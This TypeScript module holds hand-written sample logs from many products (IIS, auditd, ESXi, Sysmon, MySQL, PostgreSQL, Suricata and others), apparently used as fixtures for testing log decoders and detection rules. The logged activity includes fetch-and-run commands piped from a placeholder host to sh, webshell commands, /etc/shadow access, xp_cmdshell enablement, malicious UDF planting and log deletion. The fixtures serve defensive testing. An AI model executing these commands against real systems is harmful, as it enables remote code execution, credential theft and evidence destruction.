/**
 * Hand-written sample logs for the text decoders, modelled on each product's documented
 * format, including the awkward cases (directive changes, escapes, interleaving, split
 * arguments, continuation lines). Shared by the per-decoder tests, the fuzz test and the
 * Sigma test.
 */

export const W3C = [
  '#Software: Microsoft Internet Information Services 10.0',
  '#Version: 1.0',
  '#Date: 2024-01-10 10:00:00',
  '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken',
  '2024-01-10 10:11:12 10.0.0.5 GET /uploads/help.aspx cmd=whoami 443 - 203.0.113.7 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) - 200 0 0 15',
  '2024-01-10 10:11:13 10.0.0.5 POST /owa/auth/x.js - 443 CORP\\alice 2001:db8::7 python-requests/2.31.0 https://mail.example.com/owa/ 302 0 0 46',
  '#Fields: date time cs-method cs-uri-stem sc-status cs-host s-computername',
  '2024-01-10 10:12:00.250 GET /index.htm 404 www.example.com WEB01',
  '#Date: 2024-01-11 00:00:00',
].join('\n');

export const ACCESS = [
  '203.0.113.9 - - [10/Jan/2024:10:11:12 +0000] "GET /shell.php?cmd=whoami HTTP/1.1" 200 512 "-" "curl/8.4.0"',
  'www.example.com:443 2001:db8::1 - bob [10/Jan/2024:12:00:00 +0200] "POST /upload.jsp HTTP/1.1" 201 - "https://www.example.com/form" "Mozilla/5.0 (X11; Linux x86_64)"',
  '198.51.100.4 - - [10/Jan/2024:10:11:14 -0500] "GET /a\\"b?q=\\x22x\\x22 HTTP/1.0" 404 209',
  '192.0.2.1 - - [10/Jan/2024:10:11:15 +0000] "\\x16\\x03\\x01\\x00\\xa5\\x01" 400 226 "-" "-"',
  '192.0.2.2 - - [10/Jan/2024:10:11:16 +0000] "-" 408 - "-" "-"',
  '10.1.1.1 - - [10/Jan/2024:10:11:17 +0000] "GET /reGeorg/tunnel.jsp?cmd=connect&target=10.0.0.1&port=22 HTTP/1.1" 200 0 "-" "-" "10.9.9.9"',
].join('\n');

/** Raw auditd: an execve with interleaved records, hex and split arguments, a user login, an orphan group. */
export const AUDITD = [
  'type=SYSCALL msg=audit(1704881472.100:200): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid=900 pid=1000 auid=1001 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4 comm="apache2" exe="/usr/sbin/apache2" key=(null)',
  'type=SYSCALL msg=audit(1704881472.200:201): arch=c000003e syscall=59 success=yes exit=0 a0=7f01 a1=7f02 a2=7f03 a3=0 items=2 ppid=1000 pid=1001 auid=1001 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4 comm="sh" exe="/usr/bin/dash" key="webshell"',
  'type=EXECVE msg=audit(1704881472.200:201): argc=3 a0="sh" a1="-c" a2=77686F616D69202626206964',
  'type=CWD msg=audit(1704881472.200:201): cwd="/var/www/html/uploads"',
  'type=PATH msg=audit(1704881472.300:202): item=0 name="/etc/shadow" inode=3 dev=08:01 mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype=NORMAL',
  'type=PATH msg=audit(1704881472.200:201): item=0 name="/bin/sh" inode=1 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL',
  'type=PATH msg=audit(1704881472.200:201): item=1 name="/lib64/ld-linux-x86-64.so.2" inode=2 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL',
  'type=PROCTITLE msg=audit(1704881472.200:201): proctitle=7368002D630077686F616D69202626206964',
  'type=EOE msg=audit(1704881472.200:201): ',
  'type=USER_LOGIN msg=audit(1704881473.000:203): pid=1200 uid=0 auid=4294967295 ses=4294967295 msg=\'op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=198.51.100.7 terminal=sshd res=failed\'',
  'type=SYSCALL msg=audit(1704881474.000:204): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=1 ppid=1001 pid=1002 auid=1001 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4 comm="wget" exe="/usr/bin/wget" key=(null)',
  'type=EXECVE msg=audit(1704881474.000:204): argc=3 a0="wget" a1_len=20 a1[0]="http://198.51.100.7" a1[1]="/x.sh" a2="-O-"',
  'type=EOE msg=audit(1704881474.000:204): ',
].join('\n');

/** log_format=ENRICHED: \x1d then translated uppercase fields; node= prefix. */
export const AUDITD_ENRICHED = [
  'node=web01 type=SYSCALL msg=audit(1704881480.500:300): arch=c000003e syscall=319 success=yes exit=3 a0=7ffc a1=0 a2=0 a3=0 items=0 ppid=1 pid=4242 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm="ecasound" exe="/usr/bin/ecasound" key=(null)\u001dARCH=x86_64 SYSCALL=memfd_create AUID="unset" UID="root" GID="root" EUID="root" SUID="root" FSUID="root" EGID="root" SGID="root" FSGID="root"',
  'node=web01 type=PROCTITLE msg=audit(1704881480.500:300): proctitle="ecasound"',
  'node=web01 type=EOE msg=audit(1704881480.500:300): ',
].join('\n');

export const SYSLOG = [
  "<34>Jan  5 22:14:15 mymachine su[230]: 'su root' failed for lonvick on /dev/pts/8",
  'Jan 10 10:11:12 web01 sshd[4242]: Accepted publickey for deploy from 198.51.100.7 port 50000 ssh2',
  '<165>1 2024-01-10T22:14:15.003Z mymachine.example.com evntslog - ID47 [exampleSDID@32473 iut="3" eventSource="Application" eventID="1011"] \ufeffAn application event log entry...',
  '<13>1 2024-01-10T10:11:12+01:00 web01 - - - - plain message',
  '2024-01-10T10:11:12.345678+00:00 web01 CRON[1234]: (root) CMD (run-parts /etc/cron.hourly)',
].join('\n');

export const ESXI = [
  '2024-01-10T10:11:12.345Z In(14) shell[12345]: [root]: esxcli software vib install -v /tmp/x.vib --no-sig-check',
  '2019-01-10T10:11:12Z shell[1234]: [root]: esxcli software acceptance set --level=CommunitySupported',
  '2024-01-10T10:11:13.001Z In(166) Hostd[2099970]: [Originator@6876 sub=Vimsvc.TaskManager opID=esxcli-57-2a3b user=root] Task Created : haTask-ha-host-vim.host.ImageConfigManager.installDate-123',
  '2019-01-10T10:11:14.100Z info hostd[12345] [Originator@6876 sub=Vimsvc.ha-eventmgr] Event 123 : User root@198.51.100.7 logged in as python-requests',
  '2024-01-10T10:11:15Z esxupdate: 2099978: esxupdate: INFO: Attempting to install an image profile with validation disabled.',
  '2024-01-10T10:11:16.500Z In(14) vobd[2097654]:  [UserLevelCorrelator] 1234567us: [esx.audit.esximage.install.novalidation] Attempting to install an image profile with validation disabled.',
  '2019-01-10T10:11:17.000Z: [UserLevelCorrelator] 123us: [vob.user.esximage.install.novalidation] Signature verification was bypassed',
  '<166>2024-01-10T10:11:18.000Z esxi01.lab shell[1234]: [admin]: /bin/sh /tmp/backdoor.sh',
].join('\n');

export const TEAMCITY_ACTIVITIES = [
  '[2024-03-04 20:18:47,126]   INFO -  jetbrains.buildServer.ACTIVITIES.AUDIT - plugin_uploaded: Plugin "evil-plugin" was updated by "user with id=11 \'attacker\'" with comment "Plugin was uploaded"',
  '[2024-03-04 20:18:50,001]   INFO -  jetbrains.buildServer.ACTIVITIES.AUDIT - plugin_enable: Plugin "evil-plugin" was enabled by "user with id=11 \'attacker\'"',
  '[2024-03-04 20:19:01,500]   INFO -  jetbrains.buildServer.ACTIVITIES.AUDIT - user_token_create: "access token \'RPC2\'" was created by "\'admin\' user with id=1"',
  '[2024-03-04 20:19:02,000]   INFO -  jetbrains.buildServer.ACTIVITIES - User "admin" logged in',
].join('\n');

export const TEAMCITY_REST = [
  "[2024-03-04 20:18:40,000]  DEBUG - s.buildServer.server.rest.APIController - REST API request received: POST '/app/rest/users/id:1/tokens/RPC2', from client 198.51.100.7:50123, authenticated as 'admin' (id=1)",
  "[2024-03-04 20:18:40,050]  DEBUG - s.buildServer.server.rest.APIController - REST API request processing finished in 50 ms, status code: 200, request: POST '/app/rest/users/id:1/tokens/RPC2', from client 198.51.100.7:50123",
].join('\n');

export const TEAMCITY_SERVER = [
  '[2024-03-04 20:00:00,000]   INFO -   jetbrains.buildServer.SERVER - TeamCity server started',
  '[2024-03-04 20:00:01,000]  ERROR - jetbrains.buildServer.plugins - Failed to load plugin',
  'java.lang.IllegalStateException: bad descriptor',
  '\tat jetbrains.buildServer.plugins.Loader.load(Loader.java:42)',
].join('\n');

export const JENKINS = [
  '2024-01-10 10:11:12.345+0000 [id=42]\tINFO\thudson.model.UpdateCenter$DownloadJob#run: Starting the installation of evil-plugin on behalf of admin',
  '2024-01-10 10:11:13.001+0000 [id=42]\tINFO\thudson.model.UpdateCenter$DownloadJob#run: Installation successful: evil-plugin',
  '2024-01-10 10:11:14.000+0000 [id=43]\tSEVERE\thudson.model.UpdateCenter$DownloadJob#run: Failed to install other-plugin',
  'java.io.IOException: Failed to download',
  '\tat hudson.model.UpdateCenter.download(UpdateCenter.java:1)',
  'Jan 10, 2024 10:11:15 AM hudson.PluginManager dynamicLoad',
  'INFO: Attempting to dynamic load /var/jenkins_home/plugins/evil-plugin.jpi',
].join('\n');

export const ZEEK_HTTP_TSV = [
  '#separator \\x09',
  '#set_separator\t,',
  '#empty_field\t(empty)',
  '#unset_field\t-',
  '#path\thttp',
  '#open\t2024-01-10-10-00-00',
  '#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\ttrans_depth\tmethod\thost\turi\treferrer\tuser_agent\trequest_body_len\tstatus_code\ttags\tresp_mime_types',
  '#types\ttime\tstring\taddr\tport\taddr\tport\tcount\tstring\tstring\tstring\tstring\tstring\tcount\tcount\tset[enum]\tvector[string]',
  '1704881472.123456\tCHhAvVGS1DHFjwGM9\t203.0.113.9\t50000\t10.0.0.5\t80\t1\tPUT\tfiles.example.com\t/dav/x.exe\t-\tMicrosoft-WebDAV-MiniRedir/10.0.19045\t4096\t201\t(empty)\tapplication/x-dosexec,text/plain',
  '#close\t2024-01-10-11-00-00',
].join('\n');

export const ZEEK_CONN_JSON = [
  '{"_path":"conn","ts":1704881472.5,"uid":"C1","id.orig_h":"10.0.0.5","id.orig_p":51000,"id.resp_h":"198.51.100.7","id.resp_p":4444,"proto":"tcp","duration":12.5,"orig_bytes":100,"conn_state":"SF","history":"ShADadFf"}',
  '{"ts":"2024-01-10T10:11:13.000000Z","uid":"C2","id.orig_h":"10.0.0.6","id.orig_p":51001,"id.resp_h":"10.0.0.5","id.resp_p":80,"method":"POST","uri":"/upload.php","status_code":200,"tags":[]}',
].join('\n');

export const MSSQL = [
  '2024-01-10 10:11:12.34 Server      Microsoft SQL Server 2019 (RTM) - 15.0.2000.5 (X64)',
  '\tSep 24 2019 13:48:23',
  "2024-01-10 10:11:12.40 spid55      Configuration option 'show advanced options' changed from 0 to 1. Run the RECONFIGURE statement to install.",
  "2024-01-10 10:11:13.50 spid55      Configuration option 'xp_cmdshell' changed from 0 to 1. Run the RECONFIGURE statement to install.",
  "2024-01-10 10:11:14.00 Logon       Login failed for user 'sa'. Reason: Password did not match that for the login provided. [CLIENT: 198.51.100.7]",
].join('\n');

export const MODSEC_NATIVE = [
  '--a1b2c3d4-A--',
  '[10/Jan/2024:10:11:12.123456 +0000] ZZ1aBcDeFgH 203.0.113.9 50123 10.0.0.5 80',
  '--a1b2c3d4-B--',
  'POST /upload.php HTTP/1.1',
  'Host: www.example.com',
  'User-Agent: python-requests/2.31.0',
  'Content-Type: multipart/form-data; boundary=xyz',
  '',
  '--a1b2c3d4-F--',
  'HTTP/1.1 403 Forbidden',
  'Content-Length: 199',
  '',
  '--a1b2c3d4-H--',
  'Message: Access denied with code 403 (phase 2). Matched phrase "<?php" at FILES:file. [file "/etc/modsecurity/crs/REQUEST-933-APPLICATION-ATTACK-PHP.conf"] [line "180"] [id "933110"] [msg "PHP Injection Attack: PHP Script File Upload Found"] [data "Matched Data: x.php found within FILES:file: x.php"] [severity "CRITICAL"] [ver "OWASP_CRS/3.3.4"] [tag "application-multi"] [tag "attack-injection-php"]',
  'Action: Intercepted (phase 2)',
  'Engine-Mode: "ENABLED"',
  '',
  '--a1b2c3d4-Z--',
  '',
].join('\n');

export const MODSEC_JSON = [
  '{"transaction":{"client_ip":"203.0.113.9","time_stamp":"Wed Jan 10 10:11:12 2024","server_id":"abc","client_port":50124,"host_ip":"10.0.0.5","host_port":443,"unique_id":"170488147212.345","request":{"method":"POST","http_version":1.1,"uri":"/wp-content/uploads/cmd.php","headers":{"Host":"www.example.com","User-Agent":"curl/8.4.0"}},"response":{"http_code":403,"headers":{}},"producer":{"modsecurity":"ModSecurity v3.0.12"},"messages":[{"message":"PHP Injection Attack: PHP Script File Upload Found","details":{"match":"Matched phrase","reference":"o0,7","ruleId":"933110","file":"REQUEST-933.conf","lineNumber":"180","data":"cmd.php","severity":"2","ver":"OWASP_CRS/3.3.4","rev":"","tags":["application-multi","attack-injection-php"],"maturity":"0","accuracy":"0"}}]}}',
  '{"transaction":{"time":"10/Jan/2024:10:11:13 +0000","transaction_id":"ZZ2","remote_address":"203.0.113.10","remote_port":50200,"local_address":"10.0.0.5","local_port":80},"request":{"request_line":"GET /shell.aspx?cmd=whoami HTTP/1.1","headers":{"Host":"www.example.com"}},"response":{"protocol":"HTTP/1.1","status":200},"audit_data":{"messages":["Warning. Matched phrase \\"whoami\\" at ARGS:cmd. [file \\"x.conf\\"] [id \\"932160\\"] [msg \\"Remote Command Execution: Unix Shell Code Found\\"] [severity \\"CRITICAL\\"] [tag \\"attack-rce\\"]"],"action":{"intercepted":false},"engine_mode":"DETECTION_ONLY"}}',
].join('\n');

/**
 * Sysmon for Linux through rsyslog: RFC 5424 (with structured data) and RFC 3164 framing,
 * process creation with XML entities, network connection, file create/delete, process
 * termination and a service state change.
 */
export const SYSMON_LINUX = [
  '<14>1 2024-05-01T10:11:12.345678+00:00 web01 sysmon - - [meta sequenceId="123"] <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2024-05-01T10:11:12.340112000Z"/><EventRecordID>4711</EventRecordID><Correlation/><Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2024-05-01 10:11:12.339</Data><Data Name="ProcessGuid">{1f2e3d4c-0a0b-6632-5c2e-3a1b00000000}</Data><Data Name="ProcessId">31337</Data><Data Name="Image">/usr/bin/bash</Data><Data Name="FileVersion">-</Data><Data Name="Description">-</Data><Data Name="Product">-</Data><Data Name="Company">-</Data><Data Name="OriginalFileName">-</Data><Data Name="CommandLine">bash -c "id &amp;&amp; curl -s http://198.51.100.7/x.sh | sh"</Data><Data Name="CurrentDirectory">/var/www/html/uploads</Data><Data Name="User">www-data</Data><Data Name="LogonGuid">{1f2e3d4c-0000-0000-2100-000000000000}</Data><Data Name="LogonId">33</Data><Data Name="TerminalSessionId">4294967295</Data><Data Name="IntegrityLevel">no level</Data><Data Name="Hashes">-</Data><Data Name="ParentProcessGuid">{1f2e3d4c-0a0b-6632-1d7e-8b6a00000000}</Data><Data Name="ParentProcessId">1450</Data><Data Name="ParentImage">/usr/sbin/apache2</Data><Data Name="ParentCommandLine">/usr/sbin/apache2 -k start</Data><Data Name="ParentUser">www-data</Data></EventData></Event>',
  'May  1 10:11:13 web01 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>3</EventID><Version>5</Version><Level>4</Level><Task>3</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2024-05-01T10:11:13.002000000Z"/><EventRecordID>4712</EventRecordID><Correlation/><Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2024-05-01 10:11:13.001</Data><Data Name="ProcessGuid">{1f2e3d4c-0a0b-6632-9f1a-e0c700000000}</Data><Data Name="ProcessId">31338</Data><Data Name="Image">/usr/bin/curl</Data><Data Name="User">www-data</Data><Data Name="Protocol">tcp</Data><Data Name="Initiated">true</Data><Data Name="SourceIsIpv6">false</Data><Data Name="SourceIp">10.0.0.5</Data><Data Name="SourceHostname">-</Data><Data Name="SourcePort">48512</Data><Data Name="SourcePortName">-</Data><Data Name="DestinationIsIpv6">false</Data><Data Name="DestinationIp">198.51.100.7</Data><Data Name="DestinationHostname">-</Data><Data Name="DestinationPort">80</Data><Data Name="DestinationPortName">http</Data></EventData></Event>',
  '<14>1 2024-05-01T10:11:14.100000+00:00 web01 sysmon - - - <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>11</EventID><Version>2</Version><Level>4</Level><Task>11</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2024-05-01T10:11:14.090000000Z"/><EventRecordID>4713</EventRecordID><Correlation/><Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2024-05-01 10:11:14.089</Data><Data Name="ProcessGuid">{1f2e3d4c-0a0b-6632-9f1a-e0c700000000}</Data><Data Name="ProcessId">31338</Data><Data Name="Image">/usr/bin/curl</Data><Data Name="TargetFilename">/var/www/html/uploads/&lt;x&gt;.php</Data><Data Name="CreationUtcTime">2024-05-01 10:11:14.089</Data><Data Name="User">www-data</Data></EventData></Event>',
  'May  1 10:11:15 web01 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>23</EventID><Version>5</Version><Level>4</Level><Task>23</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2024-05-01T10:11:15.500000000Z"/><EventRecordID>4714</EventRecordID><Correlation/><Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2024-05-01 10:11:15.499</Data><Data Name="ProcessGuid">{1f2e3d4c-0a0b-6632-77aa-0b1c00000000}</Data><Data Name="ProcessId">31340</Data><Data Name="User">www-data</Data><Data Name="Image">/usr/bin/rm</Data><Data Name="TargetFilename">/var/log/apache2/access.log</Data><Data Name="Hashes">-</Data><Data Name="IsExecutable">false</Data><Data Name="Archived">false</Data></EventData></Event>',
  'May  1 10:11:16 web01 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>5</EventID><Version>3</Version><Level>4</Level><Task>5</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2024-05-01T10:11:16.000000000Z"/><EventRecordID>4715</EventRecordID><Correlation/><Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2024-05-01 10:11:15.999</Data><Data Name="ProcessGuid">{1f2e3d4c-0a0b-6632-5c2e-3a1b00000000}</Data><Data Name="ProcessId">31337</Data><Data Name="Image">/usr/bin/bash</Data><Data Name="User">www-data</Data></EventData></Event>',
  '<14>1 2024-05-01T10:00:00.000000+00:00 web01 sysmon - - - <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>4</EventID><Version>3</Version><Level>4</Level><Task>4</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2024-05-01T10:00:00.000000000Z"/><EventRecordID>1</EventRecordID><Correlation/><Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer><Security UserId="0"/></System><EventData><Data Name="UtcTime">2024-05-01 10:00:00.000</Data><Data Name="State">Started</Data><Data Name="Version">1.3.2</Data><Data Name="SchemaVersion">4.81</Data></EventData></Event>',
].join('\n');

/** MySQL 8.0 general query log: banner, a UDF planted through SQL, a multi-line query, a 5.6-style section. */
export const MYSQL_GENERAL = [
  '/usr/sbin/mysqld, Version: 8.0.36 (MySQL Community Server - GPL). started with:',
  'Tcp port: 3306  Unix socket: /var/run/mysqld/mysqld.sock',
  'Time                 Id Command    Argument',
  '2024-05-01T10:11:12.345678Z\t   12 Connect\troot@198.51.100.7 on shop using TCP/IP',
  '2024-05-01T10:11:12.401000Z\t   12 Query\tSELECT @@version_compile_os',
  "2024-05-01T10:11:13.000000Z\t   12 Query\tSELECT 0x7f454c46 INTO DUMPFILE '/usr/lib/mysql/plugin/lib_mysqludf_sys.so'",
  "2024-05-01T10:11:13.500000Z\t   12 Query\tCREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf_sys.so'",
  '2024-05-01T10:11:14.000000Z\t   12 Init DB\tmysql',
  "2024-05-01T10:11:14.250000Z\t   12 Query\tSELECT sys_exec('id > /tmp/o')",
  '  FROM dual',
  '2024-05-01T10:11:15.000000Z\t   12 Quit\t',
  '240501 10:12:00\t   13 Connect\tapp@localhost on  using Socket',
  '\t\t   13 Query\tSELECT 1',
].join('\n');

/** MySQL 8.0 and 5.7 error log lines. */
export const MYSQL_ERROR = [
  '2024-05-01T10:00:00.123456Z 0 [System] [MY-010116] [Server] /usr/sbin/mysqld (mysqld 8.0.36) starting as process 1234',
  "2024-05-01T10:11:13.600000Z 12 [ERROR] [MY-010183] [Server] Can't open shared library 'lib_mysqludf_sys.so' (errno: 0 /usr/lib/mysql/plugin/lib_mysqludf_sys.so: wrong ELF class)",
  "2024-05-01T10:11:20.000000Z 0 [Warning] Access denied for user 'root'@'203.0.113.5' (using password: YES)",
].join('\n');

/** PostgreSQL stderr log, Debian prefix `%m [%p] %q%u@%d `: COPY FROM PROGRAM, a multi-line function, an error with its STATEMENT. */
export const POSTGRESQL = [
  '2024-05-01 10:11:12.345 UTC [1234] LOG:  database system is ready to accept connections',
  "2024-05-01 10:11:13.001 UTC [2001] postgres@shop LOG:  statement: COPY cmd_out FROM PROGRAM 'id'",
  '2024-05-01 10:11:14.500 UTC [2001] postgres@shop LOG:  statement: CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int',
  "\tAS '/tmp/pg_exec.so', 'pg_exec' LANGUAGE C STRICT;",
  '2024-05-01 10:11:15.000 UTC [2001] postgres@shop ERROR:  could not access file "/tmp/pg_exec.so": No such file or directory',
  "2024-05-01 10:11:15.000 UTC [2001] postgres@shop STATEMENT:  CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/tmp/pg_exec.so', 'pg_exec' LANGUAGE C STRICT;",
  '2024-05-01 12:11:16.250 +02 [2002] app@[unknown] LOG:  duration: 0.532 ms  execute <unnamed>: SELECT * FROM users WHERE id = $1',
].join('\n');

/** PostgreSQL csvlog (15): one record with a quoted message spanning two lines. */
export const POSTGRESQL_CSV = [
  '2024-05-01 10:11:13.001 UTC,"postgres","shop",2001,"198.51.100.7:50122",6632155a.7d1,3,"COPY",2024-05-01 10:11:10 UTC,3/14,0,LOG,00000,"statement: COPY cmd_out FROM PROGRAM \'curl -s http://198.51.100.7/x | sh\'",,,,,,,,,"psql","client backend",,0',
  '2024-05-01 10:11:15.000 UTC,"postgres","shop",2001,"198.51.100.7:50122",6632155a.7d1,4,"CREATE FUNCTION",2024-05-01 10:11:10 UTC,3/15,0,ERROR,58P01,"could not access file ""/tmp/pg_exec.so"": No such file or directory",,,,,,"CREATE FUNCTION sys(cstring) RETURNS int',
  'AS \'/tmp/pg_exec.so\', \'pg_exec\' LANGUAGE C STRICT;",,,"psql","client backend",,0',
].join('\n');

/** Suricata eve.json: a web-shell alert with its HTTP metadata, the http record, a DNS answer list, fileinfo. */
export const SURICATA_EVE = [
  '{"timestamp":"2024-05-01T10:11:12.345678+0000","flow_id":1187642553817395,"in_iface":"eth0","event_type":"alert","src_ip":"203.0.113.9","src_port":51544,"dest_ip":"10.0.0.5","dest_port":80,"proto":"TCP","pkt_src":"wire/pcap","tx_id":0,"alert":{"action":"allowed","gid":1,"signature_id":2029462,"rev":3,"signature":"ET WEB_SERVER Possible Webshell Command Execution (cmd=whoami)","category":"Web Application Attack","severity":1,"metadata":{"attack_target":["Web_Server"],"signature_severity":["Major"]}},"http":{"hostname":"www.example.com","url":"/uploads/help.php?cmd=whoami","http_user_agent":"curl/8.4.0","http_method":"GET","protocol":"HTTP/1.1","status":200,"length":12},"app_proto":"http","direction":"to_server","flow":{"pkts_toserver":4,"pkts_toclient":3,"bytes_toserver":372,"bytes_toclient":512,"start":"2024-05-01T10:11:12.300001+0000","src_ip":"203.0.113.9","dest_ip":"10.0.0.5","src_port":51544,"dest_port":80}}',
  '{"timestamp":"2024-05-01T10:11:12.346001+0000","flow_id":1187642553817395,"in_iface":"eth0","event_type":"http","src_ip":"203.0.113.9","src_port":51544,"dest_ip":"10.0.0.5","dest_port":80,"proto":"TCP","pkt_src":"wire/pcap","tx_id":0,"http":{"hostname":"www.example.com","url":"/uploads/help.php?cmd=whoami","http_user_agent":"curl/8.4.0","http_content_type":"text/html","http_method":"GET","protocol":"HTTP/1.1","status":200,"length":12,"request_headers":[{"name":"Host","value":"www.example.com"},{"name":"User-Agent","value":"curl/8.4.0"}]}}',
  '{"timestamp":"2024-05-01T10:11:13.000100+0000","flow_id":998877,"event_type":"dns","src_ip":"10.0.0.5","src_port":40212,"dest_ip":"10.0.0.2","dest_port":53,"proto":"UDP","dns":{"version":2,"type":"answer","id":4242,"flags":"8180","qr":true,"rd":true,"ra":true,"rrname":"c2.example.net","rrtype":"A","rcode":"NOERROR","answers":[{"rrname":"c2.example.net","rrtype":"A","ttl":60,"rdata":"198.51.100.7"}]},"host":"sensor01"}',
  '{"timestamp":"2024-05-01T10:11:14.500000+0000","flow_id":1187642553817400,"event_type":"fileinfo","src_ip":"10.0.0.5","src_port":80,"dest_ip":"203.0.113.9","dest_port":51550,"proto":"TCP","http":{"hostname":"www.example.com","url":"/upload.php","http_method":"POST","status":200},"app_proto":"http","fileinfo":{"filename":"/upload.php","magic":"PHP script, ASCII text","gaps":false,"state":"CLOSED","md5":"0cc175b9c0f1b6a831c399e269772661","stored":false,"size":1324,"tx_id":0}}',
].join('\n');
